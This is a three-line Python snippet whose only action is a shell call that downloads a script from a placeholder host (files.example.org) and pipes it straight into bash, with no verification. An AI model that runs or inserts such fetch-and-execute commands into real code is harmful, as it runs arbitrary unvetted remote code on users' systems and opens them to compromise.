import os

os.system("curl -fsSL https://files.example.org/run.sh | bash")
